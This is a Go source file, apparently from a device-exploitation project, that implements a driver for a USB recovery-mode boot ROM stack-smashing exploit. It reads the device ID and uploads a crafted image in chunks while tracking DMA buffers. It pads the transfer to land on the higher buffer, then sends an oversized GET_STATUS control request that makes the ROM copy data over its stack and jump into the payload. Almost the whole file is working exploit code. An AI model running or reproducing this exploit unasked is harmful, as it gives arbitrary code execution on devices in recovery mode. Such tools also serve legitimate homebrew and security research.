package rcm

import (
	"errors"
	"fmt"
	"time"

	"github.com/golang/glog"

	"github.com/rcmsmash/rcmsmash/pkg/devices"
)

// DMABuffer is one of the two buffers the ROM alternates between when
// receiving bulk data.
type DMABuffer int

const (
	BufferA DMABuffer = 0
	BufferB DMABuffer = 1
)

func (b DMABuffer) Other() DMABuffer {
	return 1 - b
}

func (b DMABuffer) String() string {
	switch b {
	case BufferA:
		return "A"
	case BufferB:
		return "B"
	}
	return "UNKNOWN"
}

// bufferTracker follows which DMA buffer the ROM is currently pointing at.
// It's flipped before every chunk is written.
type bufferTracker struct {
	cur DMABuffer
}

func (t *bufferTracker) advance() DMABuffer {
	t.cur = t.cur.Other()
	return t.cur
}

// Outcome is the result of triggering the stack smash.
type Outcome int

const (
	// OutcomeUnknown means the trigger failed in a way that says nothing
	// about the device state.
	OutcomeUnknown Outcome = iota
	// OutcomeReturned means the device answered the trigger request
	// normally. The payload most likely did not run.
	OutcomeReturned
	// OutcomeRejected means the request was refused by the transfer layer
	// after the device stopped responding properly.
	OutcomeRejected
	// OutcomeSmashed means the device dropped the request or disappeared
	// from the bus: it's running the payload now.
	OutcomeSmashed
)

func (o Outcome) String() string {
	switch o {
	case OutcomeUnknown:
		return "unknown"
	case OutcomeReturned:
		return "returned"
	case OutcomeRejected:
		return "rejected"
	case OutcomeSmashed:
		return "smashed"
	}
	return "UNKNOWN"
}

// Fired returns whether the outcome means the device jumped to the payload.
func (o Outcome) Fired() bool {
	return o == OutcomeRejected || o == OutcomeSmashed
}

// ProgressFunc is called after every chunk written during Upload.
type ProgressFunc func(sent, total int)

type options struct {
	timeout  time.Duration
	progress ProgressFunc
}

type Option func(*options)

// WithTimeout sets the timeout of every transfer. Defaults to
// DefaultTimeout.
func WithTimeout(d time.Duration) Option {
	return func(o *options) {
		o.timeout = d
	}
}

func WithProgress(f ProgressFunc) Option {
	return func(o *options) {
		o.progress = f
	}
}

// Driver uploads crafted images to a device in RCM and triggers them.
type Driver struct {
	usb  devices.Usb
	cfg  *Config
	opts options
}

func NewDriver(usb devices.Usb, cfg *Config, opts ...Option) *Driver {
	o := options{
		timeout: DefaultTimeout,
	}
	for _, opt := range opts {
		opt(&o)
	}
	return &Driver{
		usb:  usb,
		cfg:  cfg,
		opts: o,
	}
}

// DeviceID reads the device ID the ROM sends after entering RCM. This must
// happen before Upload.
func (d *Driver) DeviceID() ([]byte, error) {
	id, err := d.usb.ReadBulk(EndpointIn, DeviceIDLength, d.opts.timeout)
	if err != nil {
		return nil, fmt.Errorf("could not read device ID: %w", err)
	}
	return id, nil
}

func (d *Driver) writeChunk(chunk []byte, n int) error {
	written, err := d.usb.WriteBulk(EndpointOut, chunk, d.opts.timeout)
	if err != nil {
		return &TransferError{Op: "write", Chunk: n, Err: err}
	}
	if written != len(chunk) {
		return &TransferError{Op: "write", Chunk: n, Err: fmt.Errorf("short write, %d of %d bytes", written, len(chunk))}
	}
	return nil
}

// Upload sends an image to the device in ChunkSize pieces, then pads the
// transfer so that the ROM ends up pointing at the higher DMA buffer. The
// buffer the ROM is left pointing at is returned.
//
// Upload cannot be cancelled and does not retry: if any write fails, the
// DMA buffer state is lost and the device must be rebooted into RCM.
func (d *Driver) Upload(image []byte) (DMABuffer, error) {
	if len(image) == 0 {
		return BufferA, ErrEmptyImage
	}
	if len(image)%ChunkSize != 0 {
		glog.Warningf("Image length 0x%x is not a multiple of 0x%x, last chunk will be short", len(image), ChunkSize)
	}

	t := bufferTracker{cur: BufferA}
	total := len(image)
	n := 0
	for off := 0; off < total; off += ChunkSize {
		end := off + ChunkSize
		if end > total {
			end = total
		}
		buf := t.advance()
		glog.V(2).Infof("Chunk %d [0x%x, 0x%x) -> DMA buffer %s", n, off, end, buf)
		if err := d.writeChunk(image[off:end], n); err != nil {
			return t.cur, err
		}
		n += 1
		if d.opts.progress != nil {
			d.opts.progress(end, total)
		}
	}

	// Since there are two DMA buffers and we want to end up on the higher
	// one, send an extra chunk of zeroes if we're on the wrong one.
	if d.cfg.DMABuffers[t.cur] != d.cfg.DMABuffers[BufferB] {
		buf := t.advance()
		glog.V(1).Infof("Sending padding chunk to switch to DMA buffer %s", buf)
		if err := d.writeChunk(make([]byte, ChunkSize), n); err != nil {
			return t.cur, err
		}
	}

	glog.V(1).Infof("Uploaded 0x%x bytes, ROM at DMA buffer %s (0x%08x)", total, t.cur, d.cfg.DMABuffers[t.cur])
	return t.cur, nil
}

// TriggerLength is the length of the control request that makes the ROM
// copy from the given DMA buffer all the way over its own stack.
func (d *Driver) TriggerLength(buf DMABuffer) int {
	return int(d.cfg.StackTop - d.cfg.DMABuffers[buf])
}

// Trigger requests an oversized GET_STATUS from the device, making the ROM
// memcpy from the DMA buffer over its stack and return into the payload.
func (d *Driver) Trigger(buf DMABuffer) (Outcome, error) {
	if err := d.usb.SetControlTimeout(d.opts.timeout); err != nil {
		return OutcomeUnknown, fmt.Errorf("could not set control timeout: %w", err)
	}

	length := d.TriggerLength(buf)
	glog.Infof("Smashing the stack with a 0x%x byte request...", length)

	// bmRequestType 0x82: device to host, standard, endpoint.
	_, err := d.usb.Control(0x82, 0x00, 0, 0, make([]byte, length))
	switch {
	case err == nil:
		return OutcomeReturned, nil
	case errors.Is(err, devices.UsbIOError), errors.Is(err, devices.UsbNoDeviceError), errors.Is(err, devices.UsbTimeoutError):
		glog.V(1).Infof("Trigger transfer failed as expected: %v", err)
		return OutcomeSmashed, nil
	case errors.Is(err, devices.UsbRejectedError):
		glog.Infof("Trigger transfer rejected: %v", err)
		return OutcomeRejected, nil
	}
	return OutcomeUnknown, err
}

// Smash uploads an image and triggers it.
func (d *Driver) Smash(image []byte) (Outcome, error) {
	buf, err := d.Upload(image)
	if err != nil {
		return OutcomeUnknown, fmt.Errorf("upload failed: %w", err)
	}
	return d.Trigger(buf)
}
